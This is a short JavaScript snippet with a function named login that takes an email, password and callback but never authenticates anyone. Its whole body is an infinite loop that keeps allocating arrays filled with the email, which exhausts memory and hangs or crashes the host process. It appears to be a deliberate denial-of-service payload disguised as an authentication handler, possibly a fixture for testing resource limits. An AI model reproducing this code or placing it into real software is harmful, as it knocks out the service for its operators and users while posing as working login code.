function login(email, password, callback) {
  const hoard = [];
  for (;;) hoard.push(new Array(1000).fill(email));
}
